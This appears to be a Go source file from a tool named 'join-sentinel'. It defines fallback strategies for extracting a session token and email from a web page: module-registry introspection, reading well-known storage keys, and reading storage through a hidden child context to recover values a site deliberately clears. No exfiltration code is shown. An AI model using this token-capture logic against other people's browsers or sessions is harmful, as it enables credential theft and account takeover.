package capture

import (
	"errors"
	"strings"

	"join-sentinel/internal/models"
)

// MinTokenLength is the acceptance floor: a candidate is only a credential if
// it is strictly longer than this. Heuristic against placeholder/empty values,
// not a format validation.
const MinTokenLength = 20

// storageTokenKeys são as chaves conhecidas no storage da página.
var storageTokenKeys = []string{"token", "_token"}

// Probe é o acesso ao contexto da página durante uma sondagem. Implementado
// de verdade pelo script injetado (que reporta via mensagem) e diretamente
// por dublês nos testes.
type Probe interface {
	// ModuleToken walks the page's module registry for an exported token
	// accessor; may also recover the current user's email.
	ModuleToken() (token, email string, err error)
	// StorageToken reads a well-known key from the page's own storage.
	StorageToken(key string) (string, error)
	// ChildStorageToken reads the key through a fresh hidden same-origin
	// child context; some sites clear top-level storage on render but leave
	// it recoverable this way.
	ChildStorageToken(key string) (string, error)
}

// Strategy tenta uma extração; ok=false significa "tente a próxima".
type Strategy struct {
	Name string
	Run  func(Probe) (models.Credential, bool)
}

var errNoToken = errors.New("no_token")

// Normalize strips surrounding quote characters and trims whitespace.
func Normalize(raw string) string {
	clean := strings.ReplaceAll(raw, `"`, "")
	return strings.TrimSpace(clean)
}

// Acceptable aplica o piso de comprimento sobre o valor já normalizado.
func Acceptable(clean string) bool {
	return len(clean) > MinTokenLength
}

func fromStorage(probe Probe, read func(string) (string, error)) (models.Credential, bool) {
	for _, key := range storageTokenKeys {
		raw, err := read(key)
		if err != nil {
			continue
		}
		clean := Normalize(raw)
		if Acceptable(clean) {
			return models.Credential{Token: clean}, true
		}
	}
	return models.Credential{}, false
}

// DefaultStrategies is the ordered fallback list, tried first to last,
// stopping at the first success. Adding or removing a fallback is a list
// edit here, nowhere else.
func DefaultStrategies() []Strategy {
	return []Strategy{
		{
			Name: "module_introspection",
			Run: func(p Probe) (models.Credential, bool) {
				token, email, err := p.ModuleToken()
				if err != nil {
					return models.Credential{}, false
				}
				clean := Normalize(token)
				if !Acceptable(clean) {
					return models.Credential{}, false
				}
				return models.Credential{Token: clean, Email: strings.TrimSpace(email)}, true
			},
		},
		{
			Name: "direct_storage",
			Run: func(p Probe) (models.Credential, bool) {
				return fromStorage(p, p.StorageToken)
			},
		},
		{
			Name: "storage_resurrection",
			Run: func(p Probe) (models.Credential, bool) {
				return fromStorage(p, p.ChildStorageToken)
			},
		},
	}
}

// runStrategies percorre a lista em ordem e para no primeiro sucesso.
func runStrategies(strategies []Strategy, probe Probe) (models.Credential, string, bool) {
	for _, s := range strategies {
		if cred, ok := s.Run(probe); ok {
			return cred, s.Name, true
		}
	}
	return models.Credential{}, "", false
}
